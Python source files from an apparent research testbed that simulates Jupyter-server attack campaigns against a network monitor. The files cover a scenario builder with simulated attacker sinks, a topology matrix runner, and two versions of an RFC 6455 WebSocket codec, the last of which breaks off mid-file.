                         f"{r.get('contained', 0.0):>10.2f} "
                         f"{post_s:>9}")
        return "\n".join(lines)


class TopologyMatrixRunner:
    """Runs the same generated campaigns across many topologies.

    The ROADMAP's "run every attack against many topology variants"
    harness: for each (topology, objective) cell it generates
    ``campaigns_per_cell`` campaigns with a cell-deterministic seed and
    reports detection/success/abort rates per cell and per topology.
    """

    def __init__(self, topologies: Dict[str, Union[str, "WorldSpec"]], *,
                 objectives: Optional[Sequence[str]] = None,
                 campaigns_per_cell: int = 3, base_seed: int = 9000,
                 monitor_budget: Optional[float] = None,
                 with_recon: bool = False):
        self.topologies = dict(topologies)
        self.objectives = list(objectives) if objectives else sorted(OBJECTIVES)
        self.campaigns_per_cell = campaigns_per_cell
        self.base_seed = base_seed
        self.monitor_budget = monitor_budget
        self.with_recon = with_recon

    def run(self) -> MatrixReport:
        cells: List[MatrixCell] = []
        for name, spec in sorted(self.topologies.items()):
            for o_idx, objective in enumerate(self.objectives):
                # The cell seed depends on the objective only, so every
                # topology row faces the *same* generated campaigns —
                # rows are A/B-comparable (undefended vs defended twins
                # differ only in what the world did about the attack).
                cell_seed = self.base_seed + 100 * o_idx
                campaigns = CampaignGenerator(
                    seed=cell_seed, with_recon=self.with_recon,
                ).generate_fleet(self.campaigns_per_cell, objective=objective)
                runner = CampaignRunner(base_seed=cell_seed, spec=spec,
                                        monitor_budget=self.monitor_budget)
                outcomes = runner.run(campaigns)
                cells.append(MatrixCell(topology=name, objective=objective,
                                        rates=containment_rates(outcomes),
                                        outcomes=outcomes))
        return MatrixReport(cells)
