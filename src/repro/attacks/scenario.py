"""The standard experiment world shared by attacks, benchmarks, datasets.

One call builds the whole testbed the paper's NCSA deployment implies:

- a campus network (10.0.0.0/8 internal) with a Jupyter server host,
  scientist laptops, and external attacker infrastructure (203.0.113.x
  staging, 198.51.100.x exfil sink / mining pool);
- a Jupyter server + gateway with a configurable
  :class:`~repro.server.config.ServerConfig`;
- a network tap with a :class:`~repro.monitor.engine.JupyterNetworkMonitor`;
- per-kernel :class:`~repro.audit.auditor.KernelAuditor` attachment;
- attacker-side listeners that record whatever arrives (the exfil sink
  and the stratum pool).

Since the topology refactor this module is a *facade*: the world is
described by a declarative :class:`~repro.topology.spec.WorldSpec` and
wired by :class:`~repro.topology.builder.WorldBuilder`;
:func:`build_scenario` keeps its historical signature and compiles the
``single-server`` spec.  See DESIGN.md for the layer's architecture.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Dict, List, Optional

from repro.audit import KernelAuditor
from repro.monitor import AnalyzerDepth, JupyterNetworkMonitor
from repro.server import JupyterServer, ServerConfig, ServerGateway, WebSocketKernelClient
from repro.simnet import Host, Network, NetworkTap, TcpConnection
from repro.util.rng import DeterministicRNG

if TYPE_CHECKING:  # pragma: no cover
    from repro.adversary.policy import AdversaryPolicy
    from repro.soc.controller import ResponseController
    from repro.telemetry import Telemetry
    from repro.topology.spec import WorldSpec


class SinkServer:
    """Attacker-side listener recording all received bytes per connection."""

    def __init__(self, host: Host, port: int, *, reply: bytes = b""):
        self.host = host
        self.port = port
        self.reply = reply
        self.received: List[bytes] = []
        self.connections = 0
        host.listen(port, self._accept)

    def _accept(self, conn: TcpConnection) -> None:
        self.connections += 1

        def on_data(data: bytes) -> None:
            self.received.append(data)
            if self.reply and conn.open:
                conn.send_to_client(self.reply)

        conn.on_data_server = on_data

    def total_bytes(self) -> int:
        return sum(len(d) for d in self.received)


@dataclass
class Scenario:
    """A fully wired testbed."""

    network: Network
    server: JupyterServer
    gateway: ServerGateway
    monitor: JupyterNetworkMonitor
    tap: NetworkTap
    server_host: Host
    user_host: Host
    attacker_host: Host
    exfil_sink: SinkServer
    mining_pool: SinkServer
    token: str
    rng: DeterministicRNG
    auditors: Dict[str, KernelAuditor] = field(default_factory=dict)
    results: list = field(default_factory=list)
    #: All attacker-side sinks by spec key (``exfil_sink``/``mining_pool``
    #: are also dedicated fields for the common pair).
    sinks: Dict[str, "SinkServer"] = field(default_factory=dict)
    #: The spec this world was compiled from (None for hand-wired worlds).
    spec: Optional["WorldSpec"] = None
    #: Automated-response controller when the spec carried a
    #: ResponsePolicy (the "defended" variants); None = passive defender.
    soc: Optional["ResponseController"] = None
    #: Adaptive-adversary wiring when the spec carried an
    #: AdversaryPolicy (the "adaptive" variants): spare attacker hosts
    #: the source-rotation strategy draws from, and tenant credentials
    #: the attacker starts with (modeling previously phished accounts).
    adversary_policy: Optional["AdversaryPolicy"] = None
    adversary_pool: List[Host] = field(default_factory=list)
    compromised_accounts: List[tuple] = field(default_factory=list)
    #: The world's shared measurement plane (registry + tracer +
    #: timeline); the builder threads this same instance through the
    #: proxy, monitors, SOC, and adversary.  None for hand-wired worlds.
    telemetry: Optional["Telemetry"] = None

    @property
    def clock(self):
        return self.network.loop.clock

    @classmethod
    def build(cls, **kwargs) -> "Scenario":
        """Compile the standard single-server spec (the benchmark-facing
        constructor; same keywords as :func:`build_scenario`)."""
        from repro.topology import WorldBuilder, single_server_spec

        return WorldBuilder().build(single_server_spec(**kwargs))

    # -- clients -------------------------------------------------------------------
    def user_client(self, *, username: str = "scientist") -> WebSocketKernelClient:
        return WebSocketKernelClient(self.user_host, self.server_host,
                                     port=self.server.config.port,
                                     token=self.token, username=username)

    def attacker_client(self, *, token: str = "", username: str = "attacker") -> WebSocketKernelClient:
        return WebSocketKernelClient(self.attacker_host, self.server_host,
                                     port=self.server.config.port,
                                     token=token, username=username)

    def audited_session(self, client: WebSocketKernelClient) -> KernelAuditor:
        """Start a kernel through ``client`` and attach an auditor to it."""
        kid = client.start_kernel()
        kernel = self.server.kernels[kid]
        auditor = KernelAuditor(kernel, monitor=self.monitor)
        self.auditors[kid] = auditor
        client.connect_channels()
        return auditor

    def run(self, seconds: float) -> None:
        self.network.run(seconds)

    # -- world content ---------------------------------------------------------------
    def seed_research_data(self, *, notebooks: int = 4, datasets: int = 3,
                           model_bytes: int = 20_000) -> List[str]:
        """Populate the victim's home directory with plausible artifacts."""
        from repro.nbformat import Notebook

        created = []
        for i in range(notebooks):
            nb = Notebook.new()
            nb.add_markdown(f"# Experiment {i}")
            nb.add_code("import math\nresults = [math.sqrt(x) for x in range(100)]")
            nb.add_code("print(sum(results))")
            self.server.contents.save_notebook(f"experiments/run{i}.ipynb", nb)
            created.append(f"experiments/run{i}.ipynb")
        for i in range(datasets):
            rows = "\n".join(f"{j},{(j * 37) % 101},{(j * 17) % 13}" for j in range(300))
            self.server.contents.save(f"data/measurements_{i}.csv",
                                      {"type": "file", "content": "a,b,c\n" + rows})
            created.append(f"data/measurements_{i}.csv")
        weights = bytes((i * 73 + 11) % 251 for i in range(model_bytes))
        import base64 as _b64

        self.server.contents.save("models/weights.bin", {
            "type": "file", "format": "base64",
            "content": _b64.b64encode(weights).decode(),
        })
        created.append("models/weights.bin")
        for path in created:
            self.server.contents.create_checkpoint(path)
        return created


def build_scenario(
    *,
    config: Optional[ServerConfig] = None,
    depth: AnalyzerDepth = AnalyzerDepth.JUPYTER,
    seed: int = 1337,
    monitor_budget: float = 0.0,
    seed_data: bool = True,
    monitor_has_session_key: bool = False,
) -> Scenario:
    """Construct the standard testbed.

    The testbed is a scale model: artifacts are tens of KB, not tens of
    GB, so the monitor's volume thresholds scale down with them (the
    *ratios* between attack volume, benign volume, and threshold match a
    real deployment; see DESIGN.md).  Those thresholds — and everything
    else about the world — live in the ``single-server`` spec this
    function compiles.
    """
    return Scenario.build(
        config=config, depth=depth, seed=seed, monitor_budget=monitor_budget,
        seed_data=seed_data, monitor_has_session_key=monitor_has_session_key,
    )
