"""Wire-level protocol codecs.

These produce and parse *real bytes*: the network monitor (the paper's
proposed Zeek-like tool) must demonstrate visibility into HTTP Upgrade
handshakes, RFC 6455 WebSocket frames, and ZMTP 3.0 ZeroMQ framing — the
exact layers the paper says "challenge even the most state-of-the-art
network observability tools".
"""

from repro.wire.buffer import ByteCursor
from repro.wire.http import (
    HttpRequest,
    HttpResponse,
    parse_request,
    parse_request_from,
    parse_response,
    parse_response_from,
)
from repro.wire.jupyter import LazyJupyterMessage, scan_spans
from repro.wire.websocket import (
    Frame,
    Opcode,
    WebSocketDecoder,
    accept_key,
    build_handshake_request,
    build_handshake_response,
    decode_frame,
    encode_frame,
    encode_text,
    encode_binary,
    encode_close,
    encode_ping,
    encode_pong,
)
from repro.wire.zmtp import (
    ZmtpFrame,
    ZmtpDecoder,
    encode_greeting,
    parse_greeting,
    encode_zmtp_frame,
    encode_multipart,
    decode_multipart,
)

__all__ = [
    "ByteCursor",
    "HttpRequest",
    "HttpResponse",
    "LazyJupyterMessage",
    "scan_spans",
    "parse_request",
    "parse_request_from",
    "parse_response",
    "parse_response_from",
    "Frame",
    "Opcode",
    "WebSocketDecoder",
    "accept_key",
    "build_handshake_request",
    "build_handshake_response",
    "decode_frame",
    "encode_frame",
    "encode_text",
    "encode_binary",
    "encode_close",
    "encode_ping",
    "encode_pong",
    "ZmtpFrame",
    "ZmtpDecoder",
    "encode_greeting",
    "parse_greeting",
    "encode_zmtp_frame",
    "encode_multipart",
    "decode_multipart",
]
