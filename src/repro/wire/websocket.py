"""RFC 6455 WebSocket framing and handshake.

Jupyter fronts every kernel channel with WebSocket, and the paper's core
observability complaint is that these frames defeat conventional network
monitors.  This codec is complete enough to defeat *or* enable one:

- client handshake (``Sec-WebSocket-Key`` → ``Sec-WebSocket-Accept`` with
  the RFC's fixed GUID),
- frame encode/decode with 7/16/64-bit lengths,
- client-to-server masking (XOR with the 4-byte key),
- fragmentation (continuation frames) and control frames (ping/pong/close),
- an incremental :class:`WebSocketDecoder` suitable for a passive tap
  that sees arbitrary byte chunk boundaries.

Validated against hand-computed vectors and property-based round-trips in
``tests/test_wire_websocket.py``.
"""

from __future__ import annotations

import base64
import hashlib
import struct
from dataclasses import dataclass
from enum import IntEnum
from typing import List, Optional, Tuple

from repro.util.errors import ProtocolError
from repro.wire.http import HttpRequest, HttpResponse

#: Fixed GUID from RFC 6455 §1.3.
WS_GUID = "258EAFA5-E914-47DA-95CA-C5AB0DC85B11"


class Opcode(IntEnum):
    CONTINUATION = 0x0
    TEXT = 0x1
    BINARY = 0x2
    CLOSE = 0x8
    PING = 0x9
    PONG = 0xA

    @property
    def is_control(self) -> bool:
        return self >= Opcode.CLOSE


@dataclass
class Frame:
    """A single decoded WebSocket frame."""

    fin: bool
    opcode: Opcode
    payload: bytes
    masked: bool = False

    @property
    def close_code(self) -> Optional[int]:
        if self.opcode != Opcode.CLOSE or len(self.payload) < 2:
            return None
        return struct.unpack(">H", self.payload[:2])[0]


def accept_key(client_key: str) -> str:
    """Compute ``Sec-WebSocket-Accept`` for a client ``Sec-WebSocket-Key``."""
    digest = hashlib.sha1((client_key + WS_GUID).encode("ascii")).digest()
    return base64.b64encode(digest).decode("ascii")


def build_handshake_request(host: str, path: str, key: str, *, token: str = "") -> HttpRequest:
    """Build the HTTP Upgrade request a Jupyter client sends."""
    headers = {
        "Host": host,
        "Upgrade": "websocket",
        "Connection": "Upgrade",
        "Sec-WebSocket-Key": key,
        "Sec-WebSocket-Version": "13",
    }
    if token:
        headers["Authorization"] = f"token {token}"
    return HttpRequest("GET", path, headers)


def build_handshake_response(client_key: str) -> HttpResponse:
    """Build the 101 Switching Protocols response."""
    return HttpResponse(
        101,
        "Switching Protocols",
        {
            "Upgrade": "websocket",
            "Connection": "Upgrade",
            "Sec-WebSocket-Accept": accept_key(client_key),
        },
    )


def _apply_mask(payload: bytes, mask: bytes) -> bytes:
    # XOR with a repeating 4-byte key; masking is an involution.
    if not payload:
        return b""
    repeated = (mask * (len(payload) // 4 + 1))[: len(payload)]
    return bytes(a ^ b for a, b in zip(payload, repeated))


def encode_frame(frame: Frame, *, mask_key: bytes | None = None) -> bytes:
    """Serialize ``frame``; supply ``mask_key`` (4 bytes) for client→server."""
    if frame.opcode.is_control and len(frame.payload) > 125:
        raise ProtocolError("control frame payload must be <= 125 bytes")
    if frame.opcode.is_control and not frame.fin:
        raise ProtocolError("control frames must not be fragmented")
    b0 = (0x80 if frame.fin else 0x00) | int(frame.opcode)
    masked = mask_key is not None
    n = len(frame.payload)
    if n <= 125:
        header = struct.pack(">BB", b0, (0x80 if masked else 0) | n)
    elif n <= 0xFFFF:
        header = struct.pack(">BBH", b0, (0x80 if masked else 0) | 126, n)
    else:
        header = struct.pack(">BBQ", b0, (0x80 if masked else 0) | 127, n)
    if masked:
        if len(mask_key) != 4:
            raise ProtocolError("mask key must be 4 bytes")
        return header + mask_key + _apply_mask(frame.payload, mask_key)
    return header + frame.payload


def decode_frame(data: bytes) -> Tuple[Optional[Frame], bytes]:
    """Decode one frame from ``data``; returns ``(None, data)`` if incomplete."""
    if len(data) < 2:
        return None, data
    b0, b1 = data[0], data[1]
    fin = bool(b0 & 0x80)
    rsv = b0 & 0x70
    if rsv:
        raise ProtocolError(f"nonzero RSV bits: {rsv:#x} (no extension negotiated)")
    try:
        opcode = Opcode(b0 & 0x0F)
    except ValueError:
        raise ProtocolError(f"unknown opcode {b0 & 0x0F:#x}") from None
    masked = bool(b1 & 0x80)
    length = b1 & 0x7F
    offset = 2
    if length == 126:
        if len(data) < offset + 2:
            return None, data
        (length,) = struct.unpack(">H", data[offset : offset + 2])
        offset += 2
    elif length == 127:
        if len(data) < offset + 8:
            return None, data
        (length,) = struct.unpack(">Q", data[offset : offset + 8])
        offset += 8
    mask = b""
    if masked:
        if len(data) < offset + 4:
            return None, data
        mask = data[offset : offset + 4]
        offset += 4
    if len(data) < offset + length:
        return None, data
    payload = data[offset : offset + length]
    if masked:
        payload = _apply_mask(payload, mask)
    return Frame(fin, opcode, payload, masked), data[offset + length :]


# -- convenience encoders ----------------------------------------------------


def encode_text(text: str, *, mask_key: bytes | None = None, fin: bool = True) -> bytes:
    return encode_frame(Frame(fin, Opcode.TEXT, text.encode("utf-8")), mask_key=mask_key)


def encode_binary(payload: bytes, *, mask_key: bytes | None = None, fin: bool = True) -> bytes:
    return encode_frame(Frame(fin, Opcode.BINARY, payload), mask_key=mask_key)


def encode_ping(payload: bytes = b"", *, mask_key: bytes | None = None) -> bytes:
    return encode_frame(Frame(True, Opcode.PING, payload), mask_key=mask_key)


def encode_pong(payload: bytes = b"", *, mask_key: bytes | None = None) -> bytes:
    return encode_frame(Frame(True, Opcode.PONG, payload), mask_key=mask_key)


def encode_close(code: int = 1000, reason: str = "", *, mask_key: bytes | None = None) -> bytes:
    payload = struct.pack(">H", code) + reason.encode("utf-8")
    return encode_frame(Frame(True, Opcode.CLOSE, payload), mask_key=mask_key)


def fragment_message(payload: bytes, chunk: int, opcode: Opcode = Opcode.BINARY,
                     *, mask_key: bytes | None = None) -> List[bytes]:
    """Split ``payload`` into a fragmented frame sequence of ``chunk`` bytes."""
    if chunk <= 0:
        raise ValueError("chunk must be positive")
    pieces = [payload[i : i + chunk] for i in range(0, len(payload), chunk)] or [b""]
    frames = []
    for i, piece in enumerate(pieces):
        op = opcode if i == 0 else Opcode.CONTINUATION
        fin = i == len(pieces) - 1
        frames.append(encode_frame(Frame(fin, op, piece), mask_key=mask_key))
    return frames


class WebSocketDecoder:
    """Incremental frame decoder with fragmentation reassembly.

    Feed arbitrary byte chunks; harvest complete frames with
    :meth:`frames` and complete (defragmented) *messages* with
    :meth:`messages`.  This is the component the network monitor embeds
    per reassembled TCP stream.
    """

    def __init__(self, *, max_message_size: int = 64 * 1024 * 1024):
        self._buffer = b""
        self._fragments: List[bytes] = []
        self._fragment_opcode: Optional[Opcode] = None
        self._frames: List[Frame] = []
        self._messages: List[Tuple[Opcode, bytes]] = []
        self.max_message_size = max_message_size
        self.bytes_consumed = 0

    def feed(self, data: bytes) -> None:
        self._buffer += data
        while True:
            before = len(self._buffer)
            frame, self._buffer = decode_frame(self._buffer)
            if frame is None:
                break
            self.bytes_consumed += before - len(self._buffer)
            self._frames.append(frame)
            self._process(frame)

    def _process(self, frame: Frame) -> None:
        if frame.opcode.is_control:
            self._messages.append((frame.opcode, frame.payload))
            return
        if frame.opcode == Opcode.CONTINUATION:
            if self._fragment_opcode is None:
                raise ProtocolError("continuation frame with no message in progress")
            self._fragments.append(frame.payload)
        else:
            if self._fragment_opcode is not None:
                raise ProtocolError("new data frame while fragmented message in progress")
            self._fragment_opcode = frame.opcode
            self._fragments = [frame.payload]
        total = sum(len(f) for f in self._fragments)
        if total > self.max_message_size:
            raise ProtocolError(f"message exceeds cap ({total} > {self.max_message_size})")
        if frame.fin:
            self._messages.append((self._fragment_opcode, b"".join(self._fragments)))
            self._fragment_opcode = None
            self._fragments = []

    def frames(self) -> List[Frame]:
        """Drain and return raw frames decoded so far."""
        out, self._frames = self._frames, []
        return out

    def messages(self) -> List[Tuple[Opcode, bytes]]:
        """Drain and return complete messages (control frames pass through)."""
        out, self._messages = self._messages, []
        return out
