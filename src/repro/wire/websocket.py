"""RFC 6455 WebSocket framing and handshake.

Jupyter fronts every kernel channel with WebSocket, and the paper's core
observability complaint is that these frames defeat conventional network
monitors.  This codec is complete enough to defeat *or* enable one:

- client handshake (``Sec-WebSocket-Key`` → ``Sec-WebSocket-Accept`` with
  the RFC's fixed GUID),
- frame encode/decode with 7/16/64-bit lengths,
- client-to-server masking (XOR with the 4-byte key),
- fragmentation (continuation frames) and control frames (ping/pong/close),
- an incremental :class:`WebSocketDecoder` suitable for a passive tap
  that sees arbitrary byte chunk boundaries.

Validated against hand-computed vectors and property-based round-trips in
``tests/test_wire_websocket.py``.
"""

from __future__ import annotations

import base64
import hashlib
import struct
import sys
from dataclasses import dataclass
from enum import IntEnum
from typing import List, Optional, Tuple

from repro.util.errors import ProtocolError
from repro.wire.buffer import ByteCursor
from repro.wire.http import HttpRequest, HttpResponse

try:  # numpy is present in the target environment; fall back gracefully.
    import numpy as _np
except ImportError:  # pragma: no cover
    _np = None

#: Fixed GUID from RFC 6455 §1.3.
WS_GUID = "258EAFA5-E914-47DA-95CA-C5AB0DC85B11"

#: RFC 6455 §5.2: the MSB of a 64-bit payload length MUST be 0.
MAX_PAYLOAD_LENGTH = 0x7FFFFFFFFFFFFFFF

#: Below this size the big-int XOR beats numpy's array-creation overhead.
_NUMPY_MASK_THRESHOLD = 1024


class Opcode(IntEnum):
    CONTINUATION = 0x0
    TEXT = 0x1
    BINARY = 0x2
    CLOSE = 0x8
    PING = 0x9
    PONG = 0xA

    @property
    def is_control(self) -> bool:
        return self >= Opcode.CLOSE


@dataclass(slots=True)
class Frame:
    """A single decoded WebSocket frame."""

    fin: bool
    opcode: Opcode
    payload: bytes
    masked: bool = False

    @property
    def close_code(self) -> Optional[int]:
        if self.opcode != Opcode.CLOSE or len(self.payload) < 2:
            return None
        return struct.unpack(">H", self.payload[:2])[0]


def accept_key(client_key: str) -> str:
    """Compute ``Sec-WebSocket-Accept`` for a client ``Sec-WebSocket-Key``."""
    digest = hashlib.sha1((client_key + WS_GUID).encode("ascii")).digest()
    return base64.b64encode(digest).decode("ascii")


def build_handshake_request(host: str, path: str, key: str, *, token: str = "") -> HttpRequest:
    """Build the HTTP Upgrade request a Jupyter client sends."""
    headers = {
        "Host": host,
        "Upgrade": "websocket",
        "Connection": "Upgrade",
        "Sec-WebSocket-Key": key,
        "Sec-WebSocket-Version": "13",
    }
    if token:
        headers["Authorization"] = f"token {token}"
    return HttpRequest("GET", path, headers)


def build_handshake_response(client_key: str) -> HttpResponse:
    """Build the 101 Switching Protocols response."""
    return HttpResponse(
        101,
        "Switching Protocols",
        {
            "Upgrade": "websocket",
            "Connection": "Upgrade",
            "Sec-WebSocket-Accept": accept_key(client_key),
        },
    )


def _apply_mask(payload: bytes | memoryview, mask: bytes) -> bytes:
    # XOR with a repeating 4-byte key; masking is an involution.  The
    # per-byte Python loop this replaces cost a 6x decode penalty; both
    # fast paths below XOR in bulk: numpy for large payloads, a single
    # arbitrary-precision int XOR (O(n) in CPython) for everything else.
    n = len(payload)
    if n == 0:
        return b""
    if _np is not None and n >= _NUMPY_MASK_THRESHOLD:
        # One scalar uint32 XOR over the 4-byte-aligned prefix (~11 GB/s);
        # endianness cancels out because data and key are read alike.
        aligned = n & ~3
        key = int.from_bytes(mask, sys.byteorder)
        head = (_np.frombuffer(payload, dtype=_np.uint32, count=aligned >> 2) ^ key).tobytes()
        if aligned == n:
            return head
        return head + bytes(a ^ b for a, b in zip(payload[aligned:], mask))
    repeated = (mask * (n // 4 + 1))[:n]
    return (int.from_bytes(payload, "big") ^ int.from_bytes(repeated, "big")).to_bytes(n, "big")


def _frame_header(b0: int, masked: bool, n: int) -> bytes:
    """Build the 2/4/10-byte frame header for a payload of ``n`` bytes."""
    if n <= 125:
        return struct.pack(">BB", b0, (0x80 if masked else 0) | n)
    if n <= 0xFFFF:
        return struct.pack(">BBH", b0, (0x80 if masked else 0) | 126, n)
    if n <= MAX_PAYLOAD_LENGTH:
        return struct.pack(">BBQ", b0, (0x80 if masked else 0) | 127, n)
    # RFC 6455 §5.2: the 64-bit length's most significant bit MUST be 0.
    raise ProtocolError(f"payload length {n} exceeds the RFC 6455 63-bit limit")


def encode_frame(frame: Frame, *, mask_key: bytes | None = None) -> bytes:
    """Serialize ``frame``; supply ``mask_key`` (4 bytes) for client→server."""
    if frame.opcode.is_control and len(frame.payload) > 125:
        raise ProtocolError("control frame payload must be <= 125 bytes")
    if frame.opcode.is_control and not frame.fin:
        raise ProtocolError("control frames must not be fragmented")
    b0 = (0x80 if frame.fin else 0x00) | int(frame.opcode)
    masked = mask_key is not None
    header = _frame_header(b0, masked, len(frame.payload))
    if masked:
        if len(mask_key) != 4:
            raise ProtocolError("mask key must be 4 bytes")
        return b"".join((header, mask_key, _apply_mask(frame.payload, mask_key)))
    return b"".join((header, frame.payload))


_OPCODES = {int(op): op for op in Opcode}


def _parse_frame_at(buf: bytes | memoryview, pos: int, avail: int,
                    max_length: Optional[int] = None) -> Tuple[Optional[Frame], int]:
    """Parse one frame starting at ``buf[pos]`` without consuming it.

    ``buf`` may be ``bytes`` or a :class:`memoryview` (the incremental
    decoder passes a zero-copy view of its cursor; ``avail`` is the
    total readable length).  Returns ``(frame, end_offset)`` or
    ``(None, pos)`` if incomplete; the payload is copied out exactly once.
    ``max_length`` rejects oversize frames at *header* time, so a peer
    declaring a terabyte frame cannot make the caller buffer toward it.
    """
    if avail < pos + 2:
        return None, pos
    b0, b1 = buf[pos], buf[pos + 1]
    if b0 & 0x70:
        raise ProtocolError(f"nonzero RSV bits: {b0 & 0x70:#x} (no extension negotiated)")
    opcode = _OPCODES.get(b0 & 0x0F)
    if opcode is None:
        raise ProtocolError(f"unknown opcode {b0 & 0x0F:#x}")
    masked = bool(b1 & 0x80)
    length = b1 & 0x7F
    offset = pos + 2
    if length == 126:
        if avail < offset + 2:
            return None, pos
        (length,) = struct.unpack_from(">H", buf, offset)
        offset += 2
    elif length == 127:
        if avail < offset + 8:
            return None, pos
        (length,) = struct.unpack_from(">Q", buf, offset)
        offset += 8
        if length > MAX_PAYLOAD_LENGTH:
            # RFC 6455 §5.2: the MSB of a 64-bit length MUST be 0.
            raise ProtocolError(f"64-bit payload length {length:#x} has the MSB set")
    if max_length is not None and length > max_length:
        raise ProtocolError(f"declared frame length {length} exceeds cap ({max_length})")
    mask = b""
    if masked:
        if avail < offset + 4:
            return None, pos
        mask = bytes(buf[offset : offset + 4])
        offset += 4
    end = offset + length
    if avail < end:
        return None, pos
    if masked:
        # Zero-copy view into the unmask: the XOR pass materializes the
        # payload exactly once (a bytes slice here would copy it twice).
        view = memoryview(buf) if type(buf) is bytes else buf
        payload = _apply_mask(view[offset:end], mask)
    else:
        payload = bytes(buf[offset:end])
    return Frame(bool(b0 & 0x80), opcode, payload, masked), end


def decode_frame(data: bytes) -> Tuple[Optional[Frame], bytes]:
    """Decode one frame from ``data``; returns ``(None, data)`` if incomplete."""
    frame, end = _parse_frame_at(data, 0, len(data))
    if frame is None:
        return None, data
    return frame, data[end:]


# -- convenience encoders ----------------------------------------------------


def encode_text(text: str, *, mask_key: bytes | None = None, fin: bool = True) -> bytes:
    return encode_frame(Frame(fin, Opcode.TEXT, text.encode("utf-8")), mask_key=mask_key)


def encode_binary(payload: bytes, *, mask_key: bytes | None = None, fin: bool = True) -> bytes:
    return encode_frame(Frame(fin, Opcode.BINARY, payload), mask_key=mask_key)


def encode_ping(payload: bytes = b"", *, mask_key: bytes | None = None) -> bytes:
    return encode_frame(Frame(True, Opcode.PING, payload), mask_key=mask_key)


def encode_pong(payload: bytes = b"", *, mask_key: bytes | None = None) -> bytes:
    return encode_frame(Frame(True, Opcode.PONG, payload), mask_key=mask_key)


def encode_close(code: int = 1000, reason: str = "", *, mask_key: bytes | None = None) -> bytes:
    payload = struct.pack(">H", code) + reason.encode("utf-8")
    return encode_frame(Frame(True, Opcode.CLOSE, payload), mask_key=mask_key)


def fragment_message(payload: bytes, chunk: int, opcode: Opcode = Opcode.BINARY,
                     *, mask_key: bytes | None = None) -> List[bytes]:
    """Split ``payload`` into a fragmented frame sequence of ``chunk`` bytes."""
    if chunk <= 0:
        raise ValueError("chunk must be positive")
    # memoryview slices: each piece is copied once (inside encode_frame),
    # not twice.
    view = memoryview(payload)
    pieces = [view[i : i + chunk] for i in range(0, len(payload), chunk)] or [b""]
    frames = []
    for i, piece in enumerate(pieces):
        op = opcode if i == 0 else Opcode.CONTINUATION
        fin = i == len(pieces) - 1
        frames.append(encode_frame(Frame(fin, op, piece), mask_key=mask_key))
    return frames


class WebSocketDecoder:
    """Incremental frame decoder with fragmentation reassembly.

    Feed arbitrary byte chunks; harvest complete frames with
    :meth:`frames` and complete (defragmented) *messages* with
    :meth:`messages`.  This is the component the network monitor embeds
    per reassembled TCP stream.
    """

    def __init__(self, *, max_message_size: int = 64 * 1024 * 1024,
                 collect_frames: bool = True, counters=None):
        self._cursor = ByteCursor()
        #: True iff the cursor is empty — lets the steady-state feed skip
        #: even the cursor's Python-level ``__bool__`` call.
        self._clean = True
        self._fragments: List[bytes] = []
        self._fragment_opcode: Optional[Opcode] = None
        #: Raw-frame retention is opt-out: long-lived consumers that only
        #: drain :meth:`messages` (the monitor, the gateway) pass
        #: ``collect_frames=False`` so per-frame history cannot grow
        #: with connection lifetime.
        self._collect_frames = collect_frames
        self._frames: List[Frame] = []
        self._messages: List[Tuple[Opcode, bytes]] = []
        self.max_message_size = max_message_size
        self.bytes_consumed = 0
        self._consumed = 0  # offset consumed by the last _parse_buf call
        #: Optional telemetry hook (``DecoderCounters``), charged once
        #: per drained batch.  ``None`` (the default) keeps the hot loop
        #: free of telemetry entirely — one ``is None`` test per drain.
        self._counters = counters
        self._counted_bytes = 0

    def feed(self, data: bytes) -> None:
        if self._clean:
            # Fast path: nothing buffered, so parse straight out of the
            # incoming bytes and buffer only an incomplete tail — the
            # steady state (frame-aligned segments) never touches the
            # cursor at all.
            avail = len(data)
            try:
                self._parse_buf(data, avail)
            finally:
                # On an error the unconsumed tail (including a bad
                # header) stays buffered, exactly like the slow path.
                done = self._consumed
                if done < avail:
                    self._cursor.append(data[done:] if done else data)
                    self._clean = False
            return
        cursor = self._cursor
        cursor.append(data)
        # One view and one cursor advance per feed: every complete frame
        # in the buffer is parsed in a single pass over the memoryview.
        try:
            with cursor.view() as view:
                self._parse_buf(view, len(view))
        finally:
            # The view is released by now; consume even if a frame's
            # *processing* raised (the erroring frame stays consumed,
            # matching the whole-buffer decoder's behavior).
            if self._consumed:
                cursor.skip(self._consumed)
            self._clean = not cursor

    def _parse_buf(self, buf: bytes | memoryview, avail: int) -> None:
        """Consume every complete frame in ``buf[:avail]``.

        The frame header is parsed inline (check order identical to
        :func:`_parse_frame_at`, so error classification matches the
        one-shot decoder byte for byte) and the common case — an
        unfragmented, FIN'd data frame with no reassembly in progress —
        goes straight into the message list without materializing a
        :class:`Frame` or touching the fragment bookkeeping.  Progress
        lives in locals and is written back once (``finally``), keeping
        per-frame cost flat and error cleanup exact.
        """
        self._consumed = 0
        pos = 0
        cap = self.max_message_size
        collect = self._collect_frames
        messages_append = self._messages.append
        opcodes = _OPCODES
        unpack_from = struct.unpack_from
        apply_mask = _apply_mask
        is_bytes = type(buf) is bytes
        try:
            while avail >= pos + 2:
                b0 = buf[pos]
                b1 = buf[pos + 1]
                if b0 & 0x70:
                    raise ProtocolError(
                        f"nonzero RSV bits: {b0 & 0x70:#x} (no extension negotiated)")
                op = b0 & 0x0F
                opcode = opcodes.get(op)
                if opcode is None:
                    raise ProtocolError(f"unknown opcode {op:#x}")
                length = b1 & 0x7F
                offset = pos + 2
                if length >= 126:
                    if length == 126:
                        if avail < offset + 2:
                            break
                        (length,) = unpack_from(">H", buf, offset)
                        offset += 2
                    else:
                        if avail < offset + 8:
                            break
                        (length,) = unpack_from(">Q", buf, offset)
                        offset += 8
                        if length > MAX_PAYLOAD_LENGTH:
                            # RFC 6455 §5.2: the MSB MUST be 0.
                            raise ProtocolError(
                                f"64-bit payload length {length:#x} has the MSB set")
                if length > cap:
                    raise ProtocolError(
                        f"declared frame length {length} exceeds cap ({cap})")
                masked = b1 & 0x80
                if masked:
                    if avail < offset + 4:
                        break
                    mask = bytes(buf[offset:offset + 4])
                    offset += 4
                end = offset + length
                if avail < end:
                    break
                if masked:
                    # Zero-copy view into the unmask: the XOR pass
                    # materializes the payload exactly once.
                    view = memoryview(buf) if is_bytes else buf
                    payload = apply_mask(view[offset:end], mask)
                elif is_bytes:
                    payload = buf[offset:end]
                else:
                    payload = bytes(buf[offset:end])
                pos = end
                if collect:
                    self._frames.append(
                        Frame(bool(b0 & 0x80), opcode, payload, bool(masked)))
                if b0 & 0x80 and 0 < op < 8 and self._fragment_opcode is None:
                    # Unfragmented data frame, nothing in progress: the
